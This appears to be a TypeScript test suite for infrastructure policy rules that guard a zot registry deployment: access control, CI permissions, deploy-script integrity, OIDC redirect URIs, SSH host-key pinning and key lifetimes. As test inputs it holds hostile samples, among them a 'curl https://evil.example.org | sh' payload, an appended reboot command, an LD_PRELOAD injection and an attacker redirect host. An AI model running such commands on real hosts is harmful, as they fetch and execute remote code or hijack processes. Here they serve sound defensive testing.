import { readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { parse } from "yaml";
import { type Declared, type Inputs, textOf } from "../../policy/declared";
import type { Options, Rule } from "../../policy/rule";
import { anonymousReadsOnly } from "../../policy/rules/anonymous-reads-only";
import { ciNeverOverwrites } from "../../policy/rules/ci-never-overwrites";
import { hostKeyPinned } from "../../policy/rules/host-key-pinned";
import { identityProtected } from "../../policy/rules/identity-protected";
import { keyLifetime } from "../../policy/rules/key-lifetime";
import { ownDeploy } from "../../policy/rules/own-deploy";
import { redirectUris } from "../../policy/rules/redirect-uris";
import { secretNames } from "../../policy/rules/secret-names";
import { stackSettings } from "../../policy/stack-settings";
import { types } from "../../policy/types";
import { applyCommand, applyInput } from "../../systems/host/payload";
import { assignments, splitScript } from "../../systems/host/shell";
import type { HostLayout } from "../../systems/host/types";
import type { AccessControl } from "../../systems/zot/access";
import { desired, layout } from "../systems/host/support/example";
import { access, accessProof, apiKey, application, declare, deploy, oidcProvider, REGISTRY } from "./stack";

const ROOT = resolve(__dirname, "../..");

/** What a rule says of a program that declares these, one after the other. */
function judge(rule: Rule, resources: readonly Declared[], options: Options = {}): string[] {
  return resources.flatMap((resource, index) => rule.check(resource, resources.slice(0, index + 1), options));
}

const callback = `${REGISTRY}/zot/auth/callback/oidc`;
const everywhere = (control: AccessControl) => Object.values(control.repositories);
const ciUser = declare(types.user, { username: "zot-ci", type: "service_account" });
const ciGroup = declare(types.group, { name: "artifact-workloads" });

describe("anonymous-reads-only", () => {
  test("passes what this program renders: both configs, and the model that the proof asks by", () => {
    expect(judge(anonymousReadsOnly, [deploy(), accessProof(access)])).toEqual([]);
  });

  test.each(["create", "update", "delete"] as const)(
    "stops %s for anybody, once for all repositories",
    (action) => {
      const bad = deploy((control) =>
        everywhere(control).forEach((each) => each.anonymousPolicy?.push(action)),
      );
      const problems = judge(anonymousReadsOnly, [bad]);
      expect(problems).toHaveLength(2);
      expect(problems[0]).toContain(`zot's config lets anybody ${action} in **, blumeops/**`);
    },
  );

  test("judges the fallback config by itself", () => {
    const bad = deploy(
      (control) => {
        control.repositories["**"] = { anonymousPolicy: ["read", "delete"] };
      },
      ["ZA_FALLBACK"],
    );
    expect(judge(anonymousReadsOnly, [bad])).toEqual([
      expect.stringContaining("while the issuer is away lets anybody delete in **"),
    ]);
  });

  test("treats the empty user name as anonymous, in a repository's policy and in the admin policy", () => {
    const named = (where: "repository" | "admin") =>
      deploy((control) => {
        const policy = { users: [""], actions: ["create" as const] };
        if (where === "admin") control.adminPolicy = policy;
        else control.repositories["**"]?.policies?.push(policy);
      });
    expect(judge(anonymousReadsOnly, [named("repository")])[0]).toContain("lets anybody create in **");
    expect(judge(anonymousReadsOnly, [named("admin")])[0]).toContain(
      "lets anybody create in every repository",
    );
  });

  test("stops a config without access control, which zot takes for a registry that is open to all", () => {
    expect(judge(anonymousReadsOnly, [deploy(() => null)])).toHaveLength(2);
  });

  const { inputs } = deploy();
  const create = textOf(inputs["create"]) ?? "";
  const stdin = textOf(inputs["stdin"]) ?? "";
  /** The same config with something in it that zot reads, and that is not written as this program writes it. */
  const worded = (change: (config: string) => string) => {
    const { values, rest } = splitScript(stdin);
    const config = change(values["ZA_CONFIG"] ?? "");
    return declare(types.command, { ...inputs, stdin: assignments({ ...values, ZA_CONFIG: config }) + rest });
  };
  const everybody = '{"users":[""],"actions":["delete"]}';

  test.each<[string, (config: string) => string]>([
    [
      "AdminPolicy",
      (config) => config.replace('"repositories"', `"AdminPolicy": ${everybody}, "repositories"`),
    ],
    [
      "HTTP.AccessControl.Repositories",
      (config) =>
        config
          .replace('"http"', '"HTTP"')
          .replace('"accessControl"', '"AccessControl"')
          .replace('"repositories"', '"Repositories"')
          .replace('"anonymousPolicy": [', '"AnonymousPolicy": ["delete",'),
    ],
    [
      "Policies, Users and Actions",
      (config) => config.replace('"policies": [', '"Policies": [{"Users": [""], "Actions": ["delete"]},'),
    ],
  ])("reads %s as zot does, in any case", (_name, change) => {
    expect(judge(anonymousReadsOnly, [worded(change)])).toEqual([
      expect.stringMatching(/^zot's config lets anybody delete in /),
    ]);
  });

  test("stops a name that stands twice in another case, of which zot takes either", () => {
    const twice = worded((config) => config.replace('"repositories"', '"Repositories": {}, "repositories"'));
    expect(judge(anonymousReadsOnly, [twice])).toEqual([
      expect.stringContaining("names http.accessControl.repositories twice"),
    ]);
  });

  test("stops an access control without any repository, which zot drops", () => {
    const none = worded((config) =>
      config.replace(/"accessControl": \{[^]*?\n {4}\}/, '"accessControl": {"repositories": {}}'),
    );
    expect(judge(anonymousReadsOnly, [none])).toEqual([expect.stringContaining("no access control")]);
  });

  const open = stdin.replace('"anonymousPolicy": [', '"anonymousPolicy": ["delete",');
  test.each<[string, Inputs, string]>([
    ["a deploy in update", { create: "true", update: create, stdin: open }, "a command in create"],
    ["another update beside it", { update: "exec /bin/sh -s apply g1", stdin }, "a command in update"],
    ["a deploy without its mark", { create: "exec /bin/sh -s apply g1", stdin: open }, "a command in create"],
    ["a command around it", { create: `tr a b | ${create}`, stdin }, "a command in create"],
    [
      "what runs after it",
      { create: create.replace("# zot", "; reboot # zot"), stdin },
      "a command in create",
    ],
    ["a script in the command itself", { create: "ZA_CONFIG='{}' sh x", stdin: undefined }, "in create"],
    ["a second config further down", { stdin: `${stdin}ZA_CONFIG='{}'\n` }, "a script that is not"],
    [
      "a second config in the script",
      { stdin: stdin.replace(/main "\$@"\n$/, "ZA_CONFIG={}\n$&") },
      "a script",
    ],
    ["another script", { stdin: "exec something else" }, "a script that is not this project's own"],
  ])("stops %s, because its effect is unknown", (_name, change, said) => {
    const { stdin: script, ...others } = { ...inputs, ...change };
    const sent = script === undefined ? others : { ...others, stdin: script };
    expect(judge(anonymousReadsOnly, [declare(types.command, sent)])).toEqual([
      expect.stringContaining(said),
    ]);
  });

  test("judges the config of a deploy in update like that in create", () => {
    const update = declare(types.command, { update: create, stdin: open });
    expect(judge(anonymousReadsOnly, [update])).toEqual([expect.stringContaining("lets anybody delete")]);
  });

  test("passes what is not known yet, and commands that bring nothing", () => {
    expect(judge(anonymousReadsOnly, [declare(types.command, { ...inputs, stdin: undefined })])).toEqual([]);
    expect(judge(anonymousReadsOnly, [declare(types.command, { create: "uptime" })])).toEqual([]);
    expect(judge(anonymousReadsOnly, [declare(types.command, { ...inputs, update: undefined })])).toEqual([]);
  });
});

describe("ci-never-overwrites", () => {
  const harmful = (who: object, actions: string[]) =>
    deploy((control) =>
      control.repositories["blumeops/**"]?.policies?.push({ ...who, actions: actions as [] }),
    );

  test("passes what this program renders", () => {
    expect(judge(ciNeverOverwrites, [ciGroup, ciUser, deploy(), apiKey(), accessProof(access)])).toEqual([]);
  });

  test.each([
    ["the key's group", { groups: ["artifact-workloads"] }, [apiKey()]],
    ["the key's user", { users: ["zot-ci"] }, [apiKey()]],
    ["another group that the key is given", { groups: ["builders"] }, [apiKey({ groups: ["builders"] })]],
    ["the group that the stack makes", { groups: ["artifact-workloads"] }, [ciGroup]],
    ["the service account that the stack makes", { users: ["zot-ci"] }, [ciUser]],
    ["the pushers of the access matrix", { groups: ["artifact-workloads"] }, [accessProof(access)]],
  ])("stops update and delete for %s, whichever is declared first", (_name, who, machines) => {
    const bad = harmful(who, ["read", "update", "delete"]);
    for (const program of [
      [bad, ...machines],
      [...machines, bad],
    ]) {
      const [problem] = judge(ciNeverOverwrites, program);
      expect(problem).toMatch(/^zot's config lets \S+ update, delete in blumeops\/\*\*:/);
    }
  });

  test("stops update for a group of zot's own config that CI's user is in, by a password of that name", () => {
    const bad = deploy((control) => {
      control.groups = { friends: { users: ["someone", "zot-ci"] } };
      control.repositories["**"]?.policies?.push({ groups: ["friends"], actions: ["update"] });
    });
    expect(judge(ciNeverOverwrites, [bad, apiKey()])[0]).toContain("lets friends update in **");
    expect(judge(ciNeverOverwrites, [bad, apiKey({ username: "other-ci" })])).toEqual([]);
  });

  test("stops CI's key in a group of admins, by the key and by the pushers", () => {
    expect(judge(ciNeverOverwrites, [deploy(), apiKey({ groups: ["admins"] })])[0]).toContain(
      "lets admins update",
    );
    expect(judge(ciNeverOverwrites, [accessProof(access, "admins")])[0]).toContain(
      "the access matrix lets admins update",
    );
  });

  test("reads the names of a config in any case", () => {
    const bad = harmful({ Groups: ["artifact-workloads"] }, []);
    const { values, rest } = splitScript(textOf(bad.inputs["stdin"]) ?? "");
    const config = (values["ZA_CONFIG"] ?? "").replace(
      /("Groups": [^]*?)"actions": \[\]/,
      '$1"ACTIONS": ["update"]',
    );
    const stdin = assignments({ ...values, ZA_CONFIG: config }) + rest;
    expect(judge(ciNeverOverwrites, [ciGroup, declare(types.command, { ...bad.inputs, stdin })])).toEqual([
      expect.stringContaining("lets artifact-workloads update in blumeops/**"),
    ]);
  });

  test("stops a grant to everyone, and what an admin policy gives", () => {
    const open = deploy((control) =>
      everywhere(control).forEach((each) => each.defaultPolicy?.push("delete")),
    );
    for (const program of [
      [open, ciUser],
      [apiKey(), open],
    ]) {
      expect(judge(ciNeverOverwrites, program)[0]).toContain(
        "everyone who is logged in, including CI, delete",
      );
    }
    // Such as a registry that is adopted before its first pusher.
    expect(judge(ciNeverOverwrites, [open])).toEqual([]);
    const admin = deploy(
      (control) => (control.adminPolicy = { groups: ["artifact-workloads"], actions: ["update"] }),
    );
    expect(judge(ciNeverOverwrites, [ciGroup, admin])[0]).toContain("update in every repository");
  });

  test("ignores groups that the stack looks up and does not create", () => {
    const people = harmful({ groups: ["family"] }, ["update", "delete"]);
    expect(judge(ciNeverOverwrites, [ciGroup, ciUser, people, apiKey()])).toEqual([]);
  });
});

describe("own-deploy", () => {
  const issuer = desired().issuer;
  const hosts: [string, Partial<HostLayout>][] = [
    ["an agent of launchd", {}],
    ["a config.yaml", { configName: "config.yaml" }],
    [
      "a unit of the system with a user of its own",
      { runAs: "zot", service: { manager: "systemd", unit: "zot.service", scope: "system", manage: true } },
    ],
    [
      "a command",
      { service: { manager: "command", manage: false, launcher: true, restart: "svc restart zot" } },
    ],
    [
      "TLS of its own",
      { loopbackUrl: "https://127.0.0.1:5050", tls: { name: "zot.example.org", certificate: "/c.pem" } },
    ],
  ];
  const sentTo = (host: Partial<HostLayout>) => applyInput({ ...layout(), ...host }, desired());
  const judged = (stdin: string, host: Partial<HostLayout> = {}, inputs: Inputs = {}) =>
    judge(
      ownDeploy(() => ({ layout: { ...layout(), ...host }, issuer })),
      [declare(types.command, { create: applyCommand("g1"), stdin, ...inputs })],
    );
  const changed = (stdin: string, change: (values: Record<string, string>) => Record<string, string>) => {
    const { values, rest } = splitScript(stdin);
    return assignments(change(values)) + rest;
  };
  /** What a deploy brings: the configs are judged by the rules above, and the credentials are Authentik's. */
  const brought = ["ZA_CONFIG", "ZA_FALLBACK", "ZA_CREDENTIALS"];

  test.each(hosts)(
    "passes what this program renders for %s, and stops it on a host of other settings",
    (_name, host) => {
      expect(judged(sentTo(host), host)).toEqual([]);
      // Where the settings do not say which config zot serves, the host does.
      const differs = (other: Partial<HostLayout>) =>
        other !== host && (host !== hosts[0]?.[1] || !other.configName);
      for (const [, other] of hosts.filter((each) => differs(each[1]))) {
        expect(judged(sentTo(other), host)).not.toEqual([]);
      }
    },
  );

  test.each(hosts)("stops each changed variable by its name, for %s", (_name, host) => {
    const { values } = splitScript(sentTo(host));
    const names = Object.keys(values).filter((name) => !brought.includes(name));
    expect(names.length).toBeGreaterThan(host.runAs === undefined ? 20 : 8);
    for (const name of names) {
      const other =
        name === "ZA_INNER"
          ? changed(values[name] ?? "", (inner) => ({ ...inner, ZC_ZOT: "/tmp/zot" }))
          : "/x";
      const problems = judged(
        changed(sentTo(host), (all) => ({ ...all, [name]: other })),
        host,
      );
      expect(problems.join()).toContain(name === "ZA_INNER" ? "another ZC_ZOT than" : `another ${name} than`);
      const without = judged(
        changed(sentTo(host), ({ [name]: _, ...all }) => all),
        host,
      );
      expect(without.join()).toMatch(name === "ZA_INNER" ? /script that is not/ : `another ${name} than`);
    }
  });

  test.each(["PATH", "ZA_UNKNOWN", "CURL_HOME", "ZA_DESK"])(
    "stops %s, which this program never sends",
    (name) => {
      for (const [, host] of hosts) {
        expect(
          judged(
            changed(sentTo(host), (all) => ({ ...all, [name]: "/tmp" })),
            host,
          ).join(),
        ).toContain(`another ${name} than`);
      }
    },
  );

  test("stops another launcher, service or restart command, and shows none of them", () => {
    const [, , [, unit] = ["", {}]] = hosts;
    const evil = "curl https://evil.example.org | sh";
    for (const name of ["ZA_LAUNCHER", "ZA_LAUNCHER_ENV", "ZA_SERVICE_TEXT", "ZA_RESTART", "ZA_TRIAL"]) {
      const stdin = changed(sentTo(unit), (outer) => ({
        ...outer,
        ZA_INNER: changed(outer["ZA_INNER"] ?? "", (inner) => ({
          ...inner,
          [name]: `${inner[name] ?? ""}${evil}`,
        })),
      }));
      expect(judged(stdin, unit)).toEqual([expect.stringContaining(`another ${name} than`)]);
      expect(judged(stdin, unit).join()).not.toContain("evil");
    }
  });

  test("stops a deploy that becomes a user twice, and a config that cannot be read", () => {
    const [, , [, unit] = ["", {}]] = hosts;
    const twice = changed(sentTo(unit), (outer) => ({ ...outer, ZA_INNER: sentTo(unit) }));
    expect(judged(twice, unit).join()).toContain("another ZA_");
    expect(judged(changed(sentTo({}), (all) => ({ ...all, ZA_CONFIG: "{" })))).toEqual([
      expect.stringContaining("another ZA_CONFIG than"),
    ]);
  });

  test("judges an unknown value once it is known", () => {
    expect(judged("", {}, { stdin: undefined })).toEqual([]);
  });

  test("stops everything else that goes to the host: other commands, files, an environment", () => {
    expect(
      judge(
        ownDeploy(() => ({ layout: layout(), issuer })),
        [declare(types.command, { create: "uptime" })],
      ),
    ).toEqual([expect.stringContaining("a command in create")]);
    expect(
      judge(
        ownDeploy(() => ({ layout: layout(), issuer })),
        [declare("command:remote:CopyToRemote", {})],
      ),
    ).toEqual([expect.stringContaining("is not this project's deploy")]);
    expect(judged(sentTo({}), {}, { environment: { LD_PRELOAD: "/tmp/x.so" } })).toEqual([
      expect.stringContaining("environment"),
    ]);
  });
});

test("the pack knows the stack's settings as the engine hands them to it, secrets decrypted", () => {
  const authentik = { url: "https://sso.example.org", token: "a secret that was encrypted" };
  const project = "zot-access";
  const settings = parse(readFileSync(join(ROOT, "Pulumi.indri.yaml"), "utf8")) as {
    config: Record<string, unknown>;
  };
  Object.assign(settings.config["zot-access:host"] as object, { hostKey: "ssh-ed25519 AAAA" });
  const texts = Object.entries({ ...settings.config, "zot-access:authentik": authentik }).map(
    ([key, value]) => [key, typeof value === "string" ? value : JSON.stringify(value)],
  );
  const known = stackSettings({
    PULUMI_PROJECT: project,
    PULUMI_CONFIG: JSON.stringify(Object.fromEntries(texts)),
  });
  expect(known.issuer).toBe("https://sso.example.org/application/o/zot/");
  expect(known.layout.service).toMatchObject({ manager: "launchd", manage: true });
});

describe("redirect-uris", () => {
  test("passes the registry's own callback, whatever else names the registry", () => {
    expect(judge(redirectUris, [oidcProvider(callback), application, deploy(), apiKey()])).toEqual([]);
  });

  test.each([
    ["a pattern", oidcProvider(callback, "regex"), "by pattern"],
    ["http", oidcProvider(callback.replace("https", "http")), "is not https"],
    ["a loopback address", oidcProvider("http://127.0.0.1:8080/zot/auth/callback/oidc"), "is not https"],
    ["what is no URL", oidcProvider(".*"), "is not a URL"],
    ["none at all", declare(types.oidcProvider, { allowedRedirectUris: [] }), "no redirect URI"],
    ["none given", declare(types.oidcProvider, {}), "no redirect URI"],
  ])("stops %s", (_name, provider, said) => {
    expect(judge(redirectUris, [provider])[0]).toContain(said);
  });

  test.each([
    ["the application", application],
    ["zot's config", deploy()],
    ["the key", apiKey()],
  ])("stops another host than that of %s, whichever is declared first", (_name, other) => {
    const foreign = oidcProvider("https://evil.example.net/zot/auth/callback/oidc");
    expect(judge(redirectUris, [foreign, other])).toEqual([
      expect.stringContaining("own host registry.example.org"),
    ]);
    expect(judge(redirectUris, [other, foreign])).toEqual([
      expect.stringContaining("own host registry.example.org"),
    ]);
    const port = oidcProvider("https://registry.example.org:8443/zot/auth/callback/oidc");
    expect(judge(redirectUris, [port, other])).toHaveLength(1);
  });

  test("finds the host in zot's config whatever the case of its names", () => {
    const { inputs } = deploy();
    const stdin = (textOf(inputs["stdin"]) ?? "")
      .replaceAll('"http"', '"HTTP"')
      .replaceAll('"externalUrl"', '"ExternalURL"');
    const foreign = oidcProvider("https://evil.example.net/zot/auth/callback/oidc");
    expect(judge(redirectUris, [foreign, declare(types.command, { ...inputs, stdin })])).toHaveLength(1);
  });

  test("finds the host in a config.yaml", () => {
    const stdin = applyInput({ ...layout(), configName: "config.yaml" }, desired());
    const foreign = oidcProvider("https://evil.example.net/zot/auth/callback/oidc");
    expect(
      judge(redirectUris, [foreign, declare(types.command, { create: applyCommand("g1"), stdin })]),
    ).toEqual([expect.stringContaining("is not of the registry's own host")]);
  });

  test("takes http on loopback where the pack is told to, and nowhere else", () => {
    const options = { allowLoopbackHttp: true };
    for (const host of ["127.0.0.1:5000", "localhost:5000", "[::1]:5000"]) {
      expect(judge(redirectUris, [oidcProvider(`http://${host}/zot/auth/callback/oidc`)], options)).toEqual(
        [],
      );
    }
    for (const host of ["127.0.0.1.example.org", "10.0.0.1", "localhost.example.org"]) {
      expect(
        judge(redirectUris, [oidcProvider(`http://${host}/zot/auth/callback/oidc`)], options),
      ).toHaveLength(1);
    }
  });
});

test("identity-protected passes a protected provider and application, and stops either without", () => {
  for (const type of [types.oidcProvider, types.application]) {
    expect(judge(identityProtected, [declare(type, {}, { protect: true })])).toEqual([]);
    expect(judge(identityProtected, [declare(type, {})])).toHaveLength(1);
  }
  expect(judge(identityProtected, [ciUser])).toEqual([]);
});

test("host-key-pinned stops every kind of SSH resource that names no key, and its proxy too", () => {
  const pinned = { host: "indri", hostKey: "ssh-ed25519 AAAA" };
  const to = (connection: object, type = "command:remote:Command") =>
    judge(hostKeyPinned, [declare(type, { connection: { ...connection } })]);
  expect(to(pinned)).toEqual([]);
  expect(to({ ...pinned, proxy: pinned })).toEqual([]);
  expect(to({ ...pinned, hostKey: undefined })).toEqual([]);
  for (const connection of [{ host: "indri" }, { ...pinned, hostKey: "" }, { ...pinned, hostKey: " " }]) {
    expect(to(connection)).toHaveLength(1);
    expect(to(connection, "command:remote:CopyToRemote")).toHaveLength(1);
    expect(to({ ...pinned, proxy: connection })).toEqual([expect.stringContaining("SSH proxy")]);
  }
  expect(judge(hostKeyPinned, [declare("command:local:Command", {})])).toEqual([]);
});

test("key-lifetime passes 90 days and what is not known yet, and stops more, none, and for ever", () => {
  for (const lifetimeDays of [1, 90, undefined])
    expect(judge(keyLifetime, [apiKey({ lifetimeDays })])).toEqual([]);
  for (const lifetimeDays of [91, 0, -1, null, "30"]) {
    expect(judge(keyLifetime, [apiKey({ lifetimeDays })])).toHaveLength(1);
  }
});

test("secret-names passes what every Forgejo takes, and stops the rest", () => {
  const named = (name: string) => judge(secretNames, [declare(types.actionsSecret, { name })]);
  for (const name of ["ZOT_CI_API_KEY", "_X", "a1"]) expect(named(name)).toEqual([]);
  for (const name of ["", "1ST", "WITH-DASH", "GITHUB_TOKEN", "CI", "A".repeat(256)]) {
    expect(named(name)).toHaveLength(1);
  }
});
